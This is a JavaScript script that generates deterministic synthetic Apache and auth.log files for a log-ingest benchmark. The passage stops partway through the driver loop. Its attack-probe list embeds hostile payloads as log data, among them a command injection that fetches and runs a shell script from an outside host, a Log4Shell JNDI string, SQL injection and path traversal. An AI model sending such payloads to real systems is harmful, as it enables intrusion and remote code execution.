// Deterministic synthetic log generator for the ingest benchmark (docs/PERFORMANCE.md).
//
// Same seed + same line count = byte-identical files. Lines are built with a seeded PRNG (mulberry32),
// appended to a string and written to disk in ~4 MB pieces, so memory stays flat at any size.
//
//   node scripts/bench/generate.mjs --kind access --lines 1000000 --out .bench/data/1m/access/access.log
//
// Kinds:
//   access  Apache combined log; realistic client/path/UA/status mixes, scanner bursts, attack probes,
//           about a quarter of the lines with a trailing mod_unique_id token.
//   error   Apache error log: 2.2 style for the first 30% of the file, then (after an "upgrade") 2.4 style
//           with module:level, pid/tid, client ip:port and AH codes; notices (restarts, segfaults,
//           MaxRequestWorkers) among the errors.
//   auth    Debian auth.log: sshd brute force (invalid user, failed password, pam auth failures,
//           preauth disconnects), accepted publickey/password logins with pam/logind sessions, sudo, CRON.
//
// Time: all kinds start at 2024-03-01 00:00 UTC; lines are spread at about 1M lines per 7 days with a
// daily cycle and bursts. Each file's mtime is set to its last time stamp (auth.log has no year: it is
// inferred from the mtime, as for real evidence).
import { closeSync, mkdirSync, openSync, renameSync, utimesSync, writeSync } from 'node:fs';
import { dirname } from 'node:path';

// 4: the access log's UNIQUE_IDs are real mod_unique_id values (a prefork server's children recycled
// and restarted), not random characters that decoded as one new worker per request.
export const GENERATOR_VERSION = 4;
export const START_MS = Date.UTC(2024, 2, 1, 0, 0, 0);
const MS_PER_LINE = (7 * 86_400_000) / 1_000_000; // about 1M lines per week

// ---------------------------------------------------------------- PRNG and picking
function mulberry32(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** A picker over weighted choices: a 4096-slot table, one random number per pick. */
function weighted(rand, pairs) {
  const total = pairs.reduce((s, p) => s + p[1], 0);
  const table = [];
  let acc = 0;
  for (const [value, w] of pairs) {
    acc += w;
    const upto = Math.round((acc / total) * 4096);
    while (table.length < upto) {
      table.push(value);
    }
  }
  while (table.length < 4096) {
    table.push(pairs[pairs.length - 1][0]);
  }
  return () => table[(rand() * 4096) | 0];
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const p2 = (n) => (n < 10 ? `0${n}` : `${n}`);
const p6 = (n) => String(n).padStart(6, '0');

/** A clock that advances by exponential gaps with a daily cycle, and caches the per-second text. */
function makeClock(rand, msPerLine) {
  let t = START_MS;
  let burstLeft = 0;
  return {
    get now() {
      return t;
    },
    /** Advance to the next line; `burst` lines come 20-200 ms apart. */
    tick(burst = false) {
      if (burst || burstLeft > 0) {
        if (burstLeft > 0) {
          burstLeft -= 1;
        }
        t += 20 + ((rand() * 180) | 0);
        return;
      }
      const hour = ((t / 3_600_000) | 0) % 24;
      // busier during the (UTC) day: factor 0.35 at 03:00 .. 1.65 at 15:00
      const f = 1 + 0.65 * Math.sin(((hour - 9) / 24) * 2 * Math.PI);
      const gap = (-Math.log(1 - rand()) * msPerLine) / f;
      t += Math.max(1, Math.round(gap));
    },
    /** Spread a multi-line event: the next event comes as late as if each line had its own gap. */
    extra(k) {
      for (let i = 0; i < k; i += 1) {
        this.tick();
      }
    },
  };
}

// ---------------------------------------------------------------- shared pools
function ipPool(rand, n) {
  const out = [];
  for (let i = 0; i < n; i += 1) {
    if (i % 50 === 7) {
      out.push(`2001:db8:${((rand() * 0xffff) | 0).toString(16)}::${((rand() * 0xffff) | 0).toString(16)}`);
    } else {
      let a = 1 + ((rand() * 223) | 0);
      if (a === 10 || a === 127) {
        a += 1;
      }
      out.push(`${a}.${(rand() * 256) | 0}.${(rand() * 256) | 0}.${1 + ((rand() * 254) | 0)}`);
    }
  }
  return out;
}

/** Heavy-tailed index in [0, n): a few clients make most requests. */
function skewed(rand, n) {
  const u = rand();
  return (u * u * u * n) | 0;
}

const WORDS = (
  'login admin shop cart checkout order invoice report user account settings profile search product category blog news ' +
  'about contact help faq support download upload image video audio file export import backup config status health ' +
  'metrics api v1 v2 items list detail edit delete create update session token reset password verify email newsletter ' +
  'summer winter sale red blue green shoes shirt jacket laptop phone tablet camera book garden kitchen office travel'
).split(' ');

// ---------------------------------------------------------------- Apache access
const USER_AGENTS = [
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', 30],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36', 10],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1', 12],
  ['Mozilla/5.0 (Linux; Android 14; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36', 9],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0', 7],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0', 2],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67', 5],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15', 5],
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 4],
  ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 2],
  ['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 2],
  ['Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)', 1],
  ['curl/7.88.1', 2],
  ['python-requests/2.31.0', 2],
  ['Go-http-client/1.1', 1],
  ['Wget/1.21.3', 1],
  ['Mozilla/5.0 zgrab/0.x', 1],
  ['sqlmap/1.7.2#stable (https://sqlmap.org)', 0.3],
  ['Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:004365)', 0.3],
  ['-', 0.5],
];

const ATTACKS = [
  ['GET', '/wp-login.php', 404],
  ['POST', '/wp-login.php', 404],
  ['POST', '/xmlrpc.php', 404],
  ['GET', '/.env', 404],
  ['GET', '/.git/config', 403],
  ['GET', '/phpmyadmin/index.php', 404],
  ['GET', '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://198.51.100.9/x.sh|sh%60)', 400],
  ['GET', '/index.php?id=1%27%20UNION%20SELECT%201,2,concat(user,0x3a,password),4%20FROM%20users--%20-', 500],
  ['GET', '/../../../../etc/passwd', 400],
  ['GET', '/shell.php?cmd=id', 404],
  ['GET', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404],
  ['GET', '/%0a%0a<script>alert(\\"x\\")</script>.jsp', 404],
  ['POST', '/boaform/admin/formLogin', 404],
  ['GET', '/actuator/env', 404],
  ['GET', '/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D', 200],
  ['GET', '/uploads/images/shell.php.jpg', 200],
];

function accessLine(rand, g, clock) {
  // Scanner bursts: one address hammers probes for a while.
  if (g.burstLeft === 0 && rand() < 0.0004) {
    g.burstLeft = 50 + ((rand() * 400) | 0);
    g.burstIp = g.scanners[(rand() * g.scanners.length) | 0];
    g.burstUa = rand() < 0.5 ? 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:004365)' : 'sqlmap/1.7.2#stable (https://sqlmap.org)';
  }
  let ip;
  let ua;
  let method = 'GET';
  let path;
  let status;
  let bytes;
  let referer = '-';
  let user = '-';
  const burst = g.burstLeft > 0;
  clock.tick(burst);
  if (burst) {
    g.burstLeft -= 1;
    ip = g.burstIp;
    ua = g.burstUa;
    const a = ATTACKS[(rand() * ATTACKS.length) | 0];
    method = a[0];
    path = a[1];
    status = a[2];
    bytes = 150 + ((rand() * 400) | 0);
  } else {
    ip = g.ips[skewed(rand, g.ips.length)];
    ua = g.ua();
    const kind = g.kind();
    switch (kind) {
      case 'static': {
        const s = (rand() * 10) | 0;
        path =
          s < 4
            ? `/images/products/${(rand() * 5000) | 0}.jpg`
            : s < 6
              ? `/static/js/${g.bundles[(rand() * g.bundles.length) | 0]}.js`
              : s < 8
                ? `/static/css/${g.bundles[(rand() * g.bundles.length) | 0]}.css`
                : s < 9
                  ? '/favicon.ico'
                  : `/fonts/inter-${(rand() * 8) | 0}.woff2`;
        const r = rand();
        status = r < 0.85 ? 200 : r < 0.97 ? 304 : 404;
        bytes = status === 200 ? 800 + ((rand() * 250_000) | 0) : status === 304 ? -1 : 209;
        referer = rand() < 0.8 ? `https://www.example.com${g.pages[(rand() * g.pages.length) | 0]}` : '-';
        break;
      }
      case 'page': {
        const s = (rand() * 10) | 0;
        path =
          s < 3
            ? g.pages[(rand() * g.pages.length) | 0]
            : s < 6
              ? `/products/${(rand() * 20000) | 0}`
              : s < 8
                ? `/category/${WORDS[(rand() * WORDS.length) | 0]}?page=${1 + ((rand() * 12) | 0)}`
                : `/blog/${WORDS[(rand() * WORDS.length) | 0]}-${WORDS[(rand() * WORDS.length) | 0]}-${(rand() * 300) | 0}`;
        const r = rand();
        status = r < 0.9 ? 200 : r < 0.94 ? 301 : r < 0.98 ? 404 : r < 0.99 ? 500 : 503;
        bytes = status === 200 ? 4000 + ((rand() * 60_000) | 0) : status === 301 ? 0 : 200 + ((rand() * 300) | 0);
        const q = rand();
        referer = q < 0.45 ? '-' : q < 0.85 ? `https://www.example.com${g.pages[(rand() * g.pages.length) | 0]}` : q < 0.95 ? 'https://www.google.com/' : 'https://duckduckgo.com/';
        break;
      }
      case 'api': {
        const s = (rand() * 10) | 0;
        if (s < 4) {
          path = `/api/v1/items/${(rand() * 200_000) | 0}`;
        } else if (s < 6) {
          path = `/api/v1/search?q=${WORDS[(rand() * WORDS.length) | 0]}+${WORDS[(rand() * WORDS.length) | 0]}&page=${1 + ((rand() * 5) | 0)}`;
        } else if (s < 8) {
          method = rand() < 0.5 ? 'POST' : 'GET';
          path = '/api/v1/cart';
        } else if (s < 9) {
          method = rand() < 0.7 ? 'PUT' : 'DELETE';
          path = `/api/v1/cart/items/${(rand() * 20000) | 0}`;
        } else {
          method = 'OPTIONS';
          path = '/api/v1/items';
        }
        const r = rand();
        status = method === 'OPTIONS' ? 204 : r < 0.88 ? (method === 'POST' ? 201 : 200) : r < 0.93 ? 401 : r < 0.97 ? 404 : r < 0.985 ? 400 : 500;
        bytes = status === 204 ? 0 : 60 + ((rand() * 8000) | 0);
        referer = `https://www.example.com${g.pages[(rand() * g.pages.length) | 0]}`;
        break;
      }
      case 'login': {
        const r = rand();
        method = r < 0.5 ? 'GET' : 'POST';
        path = r < 0.9 ? '/login' : '/admin/';
        status = method === 'GET' ? 200 : rand() < 0.7 ? 302 : 401;
        if (path === '/admin/') {
          user = rand() < 0.6 ? 'alice' : '-';
          status = user === '-' ? 401 : 200;
        }
        bytes = 300 + ((rand() * 3000) | 0);
        referer = 'https://www.example.com/login';
        break;
      }
      case 'head': {
        method = 'HEAD';
        path = '/';
        status = 200;
        bytes = -1;
        ua = rand() < 0.5 ? 'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)' : 'UptimeRobot/2.0';
        break;
      }
      default: {
        const a = ATTACKS[(rand() * ATTACKS.length) | 0];
        method = a[0];
        path = a[1];
        status = a[2];
        bytes = 150 + ((rand() * 400) | 0);
        ip = g.scanners[(rand() * g.scanners.length) | 0];
        ua = rand() < 0.5 ? 'Mozilla/5.0 zgrab/0.x' : 'python-requests/2.31.0';
        break;
      }
    }
  }
  if (g.clfSec !== ((clock.now / 1000) | 0)) {
    g.clfSec = (clock.now / 1000) | 0;
    const d = new Date(g.clfSec * 1000);
    g.clf = `${p2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} +0000`;
  }
  const proto = ua.startsWith('curl') || ua.startsWith('Wget') ? 'HTTP/1.0' : rand() < 0.3 ? 'HTTP/2.0' : 'HTTP/1.1';
  let line = `${ip} - ${user} [${g.clf}] "${method} ${path} ${proto}" ${status} ${bytes < 0 ? '-' : bytes} "${referer}" "${ua}"`;
  if (rand() < 0.25) {
    line += ` ${accessUniqueId(rand, g, g.clfSec)}`;
  }
  return line;
}

/**
 * A mod_unique_id value as Apache 1.3–2.2 writes it (24 characters: time, server IPv4, PID, counter,
 * scoreboard slot; big-endian; alphabet A-Z a-z 0-9 @ -) for a prefork server of 16 children: a
 * child is replaced after about 4,000 requests (MaxRequestsPerChild), and the whole server restarts
 * every three days (every child new).
 */
function accessUniqueId(rand, g, sec) {
  const w = g.workers;
  if (w.restartAt < 0 || sec >= w.restartAt) {
    w.restartAt = sec + 3 * 86_400;
    for (let slot = 0; slot < w.pids.length; slot += 1) {
      w.pids[slot] = w.nextPid;
      w.nextPid += 1 + ((rand() * 40) | 0);
      w.counters[slot] = (rand() * 65_536) | 0;
      w.served[slot] = 0;
    }
  }
  const slot = (rand() * w.pids.length) | 0;
  if (w.served[slot] >= 3_500 + ((rand() * 1_000) | 0)) {
    w.pids[slot] = w.nextPid;
    w.nextPid += 1 + ((rand() * 40) | 0);
    w.counters[slot] = (rand() * 65_536) | 0;
    w.served[slot] = 0;
  }
  w.served[slot] += 1;
  const counter = w.counters[slot];
  w.counters[slot] = (counter + 1) & 0xffff;
  const b = [sec >>> 24, (sec >>> 16) & 255, (sec >>> 8) & 255, sec & 255, 10, 0, 0, 5];
  const pid = w.pids[slot];
  b.push(pid >>> 24, (pid >>> 16) & 255, (pid >>> 8) & 255, pid & 255, counter >>> 8, counter & 255, 0, 0, 0, slot);
  let out = '';
  for (let i = 0; i < 18; i += 3) {
    const v = (b[i] << 16) | (b[i + 1] << 8) | b[i + 2];
    out += B64[(v >> 18) & 63] + B64[(v >> 12) & 63] + B64[(v >> 6) & 63] + B64[v & 63];
  }
  return out;
}

const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789@-';
function uniqueId(rand) {
  let s = '';
  for (let i = 0; i < 4; i += 1) {
    const r = (rand() * 16777216) | 0; // 24 bits = 4 chars
    s += B64[r & 63] + B64[(r >> 6) & 63] + B64[(r >> 12) & 63] + B64[(r >> 18) & 63];
  }
  // mod_unique_id: 24 characters, constant-ish prefix per server start
  return `ZgXk${s}AAAB`;
}

function accessState(rand) {
  const pages = ['/', '/about', '/contact', '/faq', '/shop', '/cart', '/checkout', '/account', '/login', '/blog'];
  for (let i = 0; i < 120; i += 1) {
    pages.push(`/${WORDS[(rand() * WORDS.length) | 0]}/${WORDS[(rand() * WORDS.length) | 0]}`);
  }
  const bundles = [];
  for (let i = 0; i < 40; i += 1) {
    bundles.push(`${WORDS[(rand() * WORDS.length) | 0]}.${((rand() * 0xffffffff) >>> 0).toString(16).padStart(8, '0')}`);
  }
  return {
    ips: ipPool(rand, 40_000),
    scanners: ipPool(rand, 300),
    pages,
    bundles,
    ua: weighted(rand, USER_AGENTS),
    kind: weighted(rand, [['static', 52], ['page', 28], ['api', 14], ['login', 3], ['head', 1.5], ['attack', 1.5]]),
    burstLeft: 0,
    burstIp: '',
    burstUa: '',
    clfSec: -1,
    clf: '',
    workers: { pids: new Array(16).fill(0), counters: new Array(16).fill(0), served: new Array(16).fill(0), nextPid: 2_000, restartAt: -1 },
  };
}

// ---------------------------------------------------------------- Apache error
function errorTime(ms, v24, rand) {
  const d = new Date(ms);
  const frac = v24 ? `.${p6(((ms % 1000) * 1000 + ((rand() * 1000) | 0)) | 0)}` : '';
  return `${DAYS[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${p2(d.getUTCDate())} ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}${frac} ${d.getUTCFullYear()}`;
}

function errorState(rand) {
  return {
    ips: ipPool(rand, 8000),
    pids: [2101, 2102, 2103, 2104, 2105, 2106],
    nextPid: 2107,
    kind: weighted(rand, [
      ['notfound', 40], ['denied', 12], ['php', 16], ['proxy', 5], ['ssl', 6], ['authfail', 5], ['invaliduri', 4], ['modsec', 5],
      ['maxworkers', 0.6], ['segfault', 0.8], ['restart', 0.5], ['busy', 1], ['timeout', 3],
    ]),
    missing: ['favicon.ico', 'robots.txt', 'apple-touch-icon.png', 'wp-login.php', '.env', 'sitemap.xml', 'ads.txt', 'xmlrpc.php', 'admin/config.php'],
  };
}

/** Returns one or more lines (a restart is a short sequence). */
function errorLines(rand, g, clock, v24) {
  clock.tick();
  const t = () => errorTime(clock.now, v24, rand);
  const ip = g.ips[skewed(rand, g.ips.length)];
  const port = 1024 + ((rand() * 64000) | 0);
  const pid = g.pids[(rand() * g.pids.length) | 0];
  const tid = 139_900_000_000_000 + ((rand() * 99_999_999) | 0);
  const client = v24 ? `[client ${ip}:${port}]` : `[client ${ip}]`;
  const head = (mod, level) => (v24 ? `[${t()}] [${mod}:${level}] [pid ${pid}:tid ${tid}] ` : `[${t()}] [${level}] `);
  const file = g.missing[(rand() * g.missing.length) | 0];
  switch (g.kind()) {
    case 'notfound':
      return v24
        ? `${head('core', 'info')}${client} AH00128: File does not exist: /var/www/html/${file}`
        : `${head('', 'error')}${client} File does not exist: /var/www/${file}${rand() < 0.3 ? ', referer: https://www.example.com/' : ''}`;
    case 'denied':
      return v24
        ? `${head('authz_core', 'error')}${client} AH01630: client denied by server configuration: /var/www/html/.git/config`
        : `${head('', 'error')}${client} client denied by server configuration: /var/www/.htaccess`;
    case 'php': {
      const msgs = [
        `PHP Warning:  Undefined array key "id" in /var/www/html/product.php on line ${10 + ((rand() * 300) | 0)}`,
        `PHP Notice:  Trying to access array offset on value of type null in /var/www/html/lib/cart.php on line ${(rand() * 500) | 0}`,
        `PHP Fatal error:  Uncaught PDOException: SQLSTATE[HY000] [2002] Connection refused in /var/www/html/lib/db.php:${(rand() * 90) | 0}`,
        'PHP Deprecated:  Function strftime() is deprecated in /var/www/html/lib/date.php on line 42',
      ];
      const m = msgs[(rand() * msgs.length) | 0];
      return v24
        ? `${head('php', 'error')}${client} ${m}, referer: https://www.example.com/shop`
        : `${head('', 'error')}${client} ${m}, referer: https://www.example.com/shop`;
    }
    case 'proxy':
      return v24
        ? `${head('proxy_fcgi', 'error')}${client} AH01071: Got error 'Primary script unknown'`
        : `${head('', 'error')}${client} (70007)The timeout specified has expired: proxy: error reading status line from remote server 127.0.0.1:9000`;
    case 'ssl':
      return v24
        ? `${head('ssl', 'warn')}AH01909: www.example.com:443:0 server certificate does NOT include an ID which matches the server name`
        : `${head('', 'warn')}RSA server certificate CommonName (CN) \`localhost' does NOT match server name!?`;
    case 'authfail': {
      const u = WORDS[(rand() * WORDS.length) | 0];
      return v24
        ? `${head('auth_basic', 'error')}${client} AH01618: user ${u} not found: /admin/`
        : `${head('', 'error')}${client} user ${u} not found: /admin/`;
    }
    case 'invaliduri':
      return v24
        ? `${head('core', 'error')}${client} AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh)`
        : `${head('', 'error')}${client} Invalid URI in request GET /..%2f..%2f..%2fetc/passwd HTTP/1.1`;
    case 'modsec': {
      const id = 942100 + ((rand() * 400) | 0);
      const uid = uniqueId(rand);
      return `${head('security2', 'error')}${client} ModSecurity: Access denied with code 403 (phase 2). Pattern match "(?i)union.*select" at ARGS:id. [file "/usr/share/modsecurity-crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [line "45"] [id "${id}"] [msg "SQL Injection Attack Detected via libinjection"] [severity "CRITICAL"] [hostname "www.example.com"] [uri "/index.php"] [unique_id "${uid}"]`;
    }
    case 'maxworkers':
      return v24
        ? `[${t()}] [mpm_prefork:error] [pid 2100] AH00161: server reached MaxRequestWorkers setting, consider raising the MaxRequestWorkers setting`
        : `[${t()}] [error] server reached MaxClients setting, consider raising the MaxClients setting`;
    case 'busy':
      return v24
        ? `[${t()}] [mpm_prefork:info] [pid 2100] AH00162: server seems busy, (you may need to increase StartServers, or Min/MaxSpareServers), spawning 8 children, there are 0 idle, and 24 total children`
        : `[${t()}] [info] server seems busy, (you may need to increase StartServers, or Min/MaxSpareServers), spawning 8 children, there are 0 idle, and 24 total children`;
    case 'timeout':
      return v24
        ? `${head('reqtimeout', 'info')}${client} AH01382: Request header read timeout`
        : `${head('', 'info')}${client} request failed: error reading the headers`;
    case 'segfault': {
      const dead = g.pids.splice((rand() * g.pids.length) | 0, 1)[0] ?? pid;
      g.pids.push(g.nextPid++);
      return v24
        ? `[${t()}] [core:notice] [pid 2100] AH00051: child pid ${dead} exit signal Segmentation fault (11), possible coredump in /etc/apache2`
        : `[${t()}] [notice] child pid ${dead} exit signal Segmentation fault (11), possible coredump in /tmp/apache`;
    }
    default: {
      // graceful restart (logrotate) or full restart
      const lines = [];
      if (v24) {
        const graceful = rand() < 0.7;
        lines.push(
          graceful
            ? `[${t()}] [mpm_prefork:notice] [pid 2100] AH00171: Graceful restart requested, doing restart`
            : `[${t()}] [mpm_prefork:notice] [pid 2100] AH00169: caught SIGTERM, shutting down`,
        );
        clock.tick(true);
        lines.push(`[${t()}] [mpm_prefork:notice] [pid 2100] AH00163: Apache/2.4.57 (Debian) OpenSSL/3.0.11 configured -- resuming normal operations`);
        clock.tick(true);
        lines.push(`[${t()}] [core:notice] [pid 2100] AH00094: Command line: '/usr/sbin/apache2'`);
      } else {
        lines.push(rand() < 0.7 ? `[${t()}] [notice] SIGUSR1 received.  Doing graceful restart` : `[${t()}] [notice] SIGHUP received.  Attempting to restart`);
        clock.tick(true);
        lines.push(`[${t()}] [notice] Apache/2.2.22 (Debian) PHP/5.4.45-0+deb7u2 mod_ssl/2.2.22 OpenSSL/1.0.1t configured -- resuming normal operations`);
      }
      return lines;
    }
  }
}

// ---------------------------------------------------------------- auth.log
function syslogTime(ms) {
  const d = new Date(ms);
  const day = d.getUTCDate();
  return `${MONTHS[d.getUTCMonth()]} ${day < 10 ? ` ${day}` : day} ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}`;
}

const BAD_USERS = ['admin', 'test', 'user', 'oracle', 'postgres', 'ubuntu', 'git', 'guest', 'ftpuser', 'pi', 'deploy', 'support', 'jenkins', 'minecraft', 'hadoop', 'www', 'nagios', 'debian', 'server', 'administrator'];
const STAFF = [['alice', 1000], ['bob', 1001], ['carol', 1002], ['deploy', 1003]];
const CRON_CMDS = [
  ['root', 'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }'],
  ['root', '/usr/local/bin/backup.sh >/dev/null 2>&1'],
  ['www-data', 'php /var/www/html/cron.php >/dev/null 2>&1'],
  ['root', '[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi'],
  ['root', 'command -v debian-sa1 > /dev/null && debian-sa1 1 1'],
];
const SUDO_CMDS = ['/usr/bin/systemctl restart apache2', '/usr/bin/tail -n 200 /var/log/apache2/error.log', '/usr/bin/apt-get upgrade -y', '/bin/bash', '/usr/sbin/apache2ctl configtest', '/usr/bin/journalctl -u ssh'];

function authState(rand) {
  return {
    ips: ipPool(rand, 6000),
    staffIps: ipPool(rand, 12),
    pid: 10_000,
    session: 100,
    pending: [], // [dueMs, line without time]
    kind: weighted(rand, [['brute', 46], ['root', 14], ['noid', 6], ['closed', 6], ['cron', 16], ['login', 4], ['sudo', 5], ['negotiate', 3]]),
  };
}

function authLines(rand, g, clock) {
  clock.tick();
  const out = [];
  // sessions and cron jobs that end now
  while (g.pending.length > 0 && g.pending[0][0] <= clock.now) {
    const [due, text] = g.pending.shift();
    out.push(`${syslogTime(due)} web1 ${text}`);
  }
  const ts = syslogTime(clock.now);
  const h = `${ts} web1 `;
  const pid = (g.pid = g.pid >= 65000 ? 10_000 : g.pid + 1 + ((rand() * 7) | 0));
  const ip = g.ips[skewed(rand, g.ips.length)];
  const port = 1024 + ((rand() * 64000) | 0);
  const later = (ms, text) => {
    const due = clock.now + ms;
    let i = g.pending.length;
    while (i > 0 && g.pending[i - 1][0] > due) {
      i -= 1;
    }
    g.pending.splice(i, 0, [due, text]);
  };
  switch (g.kind()) {
    case 'brute': {
      const u = BAD_USERS[(rand() * BAD_USERS.length) | 0];
      out.push(`${h}sshd[${pid}]: Invalid user ${u} from ${ip} port ${port}`);
      out.push(`${h}sshd[${pid}]: pam_unix(sshd:auth): check pass; user unknown`);
      out.push(`${h}sshd[${pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}`);
      out.push(`${h}sshd[${pid}]: Failed password for invalid user ${u} from ${ip} port ${port} ssh2`);
      out.push(rand() < 0.6 ? `${h}sshd[${pid}]: Received disconnect from ${ip} port ${port}:11: Bye Bye [preauth]` : `${h}sshd[${pid}]: Connection closed by invalid user ${u} ${ip} port ${port} [preauth]`);
      break;
    }
    case 'root':
      out.push(`${h}sshd[${pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=root`);
      out.push(`${h}sshd[${pid}]: Failed password for root from ${ip} port ${port} ssh2`);
      out.push(`${h}sshd[${pid}]: Disconnected from authenticating user root ${ip} port ${port} [preauth]`);
      break;
    case 'noid':
      out.push(`${h}sshd[${pid}]: Did not receive identification string from ${ip} port ${port}`);
      break;
    case 'closed':
      out.push(`${h}sshd[${pid}]: Connection closed by ${ip} port ${port} [preauth]`);
      break;
    case 'negotiate':
      out.push(`${h}sshd[${pid}]: Unable to negotiate with ${ip} port ${port}: no matching key exchange method found. Their offer: diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1 [preauth]`);
      break;
    case 'cron': {
      const [user, cmd] = CRON_CMDS[(rand() * CRON_CMDS.length) | 0];
      const uid = user === 'root' ? 0 : 33;
      out.push(`${h}CRON[${pid}]: pam_unix(cron:session): session opened for user ${user}(uid=${uid}) by (uid=0)`);
      out.push(`${h}CRON[${pid}]: (${user}) CMD (${cmd})`);
      later(200 + ((rand() * 60_000) | 0), `CRON[${pid}]: pam_unix(cron:session): session closed for user ${user}`);
      break;
    }
    case 'login': {
      const [user, uid] = STAFF[(rand() * STAFF.length) | 0];
      const from = g.staffIps[(rand() * g.staffIps.length) | 0];
      const session = (g.session += 1);
      out.push(
        rand() < 0.85
          ? `${h}sshd[${pid}]: Accepted publickey for ${user} from ${from} port ${port} ssh2: ED25519 SHA256:${uniqueId(rand)}x9Qk2mN0pLr4`
          : `${h}sshd[${pid}]: Accepted password for ${user} from ${from} port ${port} ssh2`,
      );
      out.push(`${h}sshd[${pid}]: pam_unix(sshd:session): session opened for user ${user}(uid=${uid}) by (uid=0)`);
      out.push(`${h}systemd-logind[612]: New session ${session} of user ${user}.`);
      const dur = 30_000 + ((rand() * 3_600_000) | 0);
      later(dur, `sshd[${pid}]: Received disconnect from ${from} port ${port}:11: disconnected by user`);
      later(dur + 1, `sshd[${pid}]: Disconnected from user ${user} ${from} port ${port}`);
      later(dur + 2, `sshd[${pid}]: pam_unix(sshd:session): session closed for user ${user}`);
      later(dur + 3, `systemd-logind[612]: Session ${session} logged out. Waiting for processes to exit.`);
      later(dur + 4, `systemd-logind[612]: Removed session ${session}.`);
      break;
    }
    default: {
      const [user, uid] = STAFF[(rand() * STAFF.length) | 0];
      const cmd = SUDO_CMDS[(rand() * SUDO_CMDS.length) | 0];
      if (rand() < 0.05) {
        out.push(`${h}sudo: ${user.padStart(8)} : 3 incorrect password attempts ; TTY=pts/${(rand() * 4) | 0} ; PWD=/home/${user} ; USER=root ; COMMAND=${cmd}`);
        break;
      }
      out.push(`${h}sudo: ${user.padStart(8)} : TTY=pts/${(rand() * 4) | 0} ; PWD=/home/${user} ; USER=root ; COMMAND=${cmd}`);
      out.push(`${h}sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=${uid})`);
      later(100 + ((rand() * 20_000) | 0), 'sudo: pam_unix(sudo:session): session closed for user root');
      break;
    }
  }
  return out;
}

// ---------------------------------------------------------------- driver
const SEEDS = { access: 0xacce55, error: 0xe770, auth: 0xa0711 };

/**
 * Writes exactly `lines` lines of `kind` to `out`. Returns { lines, bytes, firstMs, lastMs, ms }.
 */
export function generate(kind, lines, out) {
  const t0 = performance.now();
  const rand = mulberry32(SEEDS[kind]);
  const clock = makeClock(rand, MS_PER_LINE);
  mkdirSync(dirname(out), { recursive: true });
  const tmp = `${out}.partial`;
  const fd = openSync(tmp, 'w');
  const buf = Buffer.allocUnsafe(8 * 1024 * 1024);
  let pos = 0;
  let bytes = 0;
  let n = 0;
  const push = (line) => {
    if (pos + line.length * 3 + 1 > buf.length) {
      bytes += writeSync(fd, buf, 0, pos);
      pos = 0;
    }
    pos += buf.utf8Write(line, pos);
    buf[pos] = 10;
    pos += 1;
    n += 1;
  };
  let v24 = false;
  const g = kind === 'access' ? accessState(rand) : kind === 'error' ? errorState(rand) : authState(rand);
  const firstMs = START_MS;
  while (n < lines) {
    if (kind === 'access') {
      push(accessLine(rand, g, clock));
    } else if (kind === 'error') {
      if (!v24 && n >= lines * 0.3) {
